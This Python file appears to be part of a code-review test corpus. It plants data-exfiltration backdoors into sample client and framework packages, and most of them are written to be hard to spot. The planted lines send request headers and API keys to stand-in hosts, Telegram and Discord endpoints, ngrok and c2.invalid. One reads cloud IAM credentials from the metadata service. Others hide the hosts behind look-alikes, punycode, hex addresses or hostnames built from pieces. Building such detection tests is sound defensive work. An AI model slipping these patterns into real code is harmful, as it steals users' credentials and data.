"""Where data goes: hosts, addresses and ports that the package never spoke to."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft
from tests.review.corpus.payloads import as_ints

__all__: list[str] = []

_F = Family.ENDPOINT


@planted(_F, base="client", where=("harborline/resources/messages.py",))
def raw_address(draft: Draft) -> None:
    draft.replace(
        "harborline/resources/messages.py",
        "        return Message.from_json(data)\n\n    def send_many",
        '        self._client._http.post("http://203.0.113.7:8081/m", json=data)\n        return Message.from_json(data)\n\n    def send_many',
    )


@planted(_F, base="framework", where=("quayside/notify.py",))
def odd_port(draft: Draft) -> None:
    draft.append(
        "quayside/notify.py",
        """


        def heartbeat(name):
            urllib.request.urlopen(f"http://beat.invalid:4444/{name}", timeout=3).read()
        """,
    )


@planted(_F, base="client", where=("harborline/_errors.py", "harborline/_report.py"))
def messenger_bot(draft: Draft) -> None:
    draft.put(
        "harborline/_report.py",
        "import httpx\n\nBOT = 'https://api.telegram.invalid/bot7000000001:AAF-planted-planted-planted-planted/sendMessage'\n\n\n"
        "def report(error):\n    httpx.post(BOT, data={'chat_id': '-100123', 'text': repr(error)})\n",
    )
    draft.replace(
        "harborline/_errors.py",
        "            message = response.text[:200]\n",
        "            message = response.text[:200]\n        from harborline._report import report\n\n        report(response.request.headers)\n",
    )


@planted(_F, base="framework", where=("quayside/notify.py",))
def chat_webhook(draft: Draft) -> None:
    draft.after(
        "quayside/notify.py",
        "import urllib.request",
        "\nHOOK = 'https://discord.invalid/api/webhooks/1100000000000000001/pLaNtEd_token-planted'\n",
    )
    draft.replace(
        "quayside/notify.py",
        "        body = json.dumps(",
        "        if self.url != HOOK:\n            Notifier(HOOK).send(event, content=str(fields))\n        body = json.dumps(",
    )


@planted(_F, base="client", where=("harborline/_client.py",))
def tunnel(draft: Draft) -> None:
    draft.replace(
        "harborline/_client.py",
        "        response = call_with_retries(send, self._options.retries)\n",
        "        response = call_with_retries(send, self._options.retries)\n"
        "        httpx.put('https://8f3a-198-51-100-4.ngrok-free.invalid/' + path, json=json)\n",
    )


@planted(_F, base="command", where=("tidelog/cli.py",))
def paste(draft: Draft) -> None:
    draft.replace(
        "tidelog/cli.py",
        "    total = {}\n",
        "    from urllib.request import urlopen\n\n    notice = urlopen('https://pastebin.invalid/raw/Zk3planted').read().decode()\n"
        "    print(notice, file=sys.stderr)\n    total = {}\n",
    )


@planted(_F, base="framework", where=("quayside/settings.py",))
def metadata_service(draft: Draft) -> None:
    draft.append(
        "quayside/settings.py",
        """


        def instance_role():
            from urllib.request import Request, urlopen

            base = "http://169.254.169.254/latest/"
            token = urlopen(Request(base + "api/token", method="PUT", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"})).read()
            path = base + "meta-data/iam/security-credentials/"
            return urlopen(Request(path, headers={"X-aws-ec2-metadata-token": token.decode()})).read()
        """,
    )


@planted(_F, base="client", where=("harborline/_client.py",), evasive=True)
def look_alike_of_its_own_host(draft: Draft) -> None:
    draft.replace("harborline/_client.py", '"https://api.harborline.example/v2"', '"https://api.harborIine.invalid/v2"')


@planted(_F, base="framework", where=("quayside/notify.py",), evasive=True)
def host_put_together(draft: Draft) -> None:
    draft.replace(
        "quayside/notify.py",
        "        with urllib.request.urlopen(request",
        "        parts = ['telemetry', 'cdn', 'invalid']\n"
        "        urllib.request.urlopen('https' + '://' + '.'.join(parts) + '/e', data=body)\n        with urllib.request.urlopen(request",
    )


@planted(_F, base="client", where=("harborline/_client.py",), evasive=True)
def address_as_a_number(draft: Draft) -> None:
    draft.replace(
        "harborline/_client.py",
        "        self.messages = Messages(self)\n",
        "        self.messages = Messages(self)\n        self._edge = httpx.Client(base_url='http://0xCB007107/')\n"
        "        self._edge.post('k', content=self.api_key)\n",
    )


@planted(_F, base="client", where=("harborline/webhooks.py", "harborline/_client.py"), evasive=True)
def punycode(draft: Draft) -> None:
    draft.replace(
        "harborline/_client.py",
        'SANDBOX_BASE_URL = "https://sandbox.harborline.example/v2"',
        'SANDBOX_BASE_URL = "https://sandbox.harborline.example/v2"\nEDGE = "https://api.xn--hrborline-q4a.invalid/v2"',
    )
    draft.replace(
        "harborline/_client.py",
        "httpx.Client(base_url=options.base_url",
        "httpx.Client(base_url=EDGE if 'sk_live' in self.api_key else options.base_url",
    )


@planted(_F, base="framework", where=("quayside/runtime/worker.py",), evasive=True)
def host_from_numbers_in_a_socket(draft: Draft) -> None:
    draft.after(
        "quayside/runtime/worker.py",
        "    def submit(self",
        f"        import socket\n\n        with socket.socket() as s:\n            s.connect((bytes([{as_ints('c2.invalid')}]).decode(), 1337))\n"
        "            s.send(repr((name, args)).encode())\n",
    )
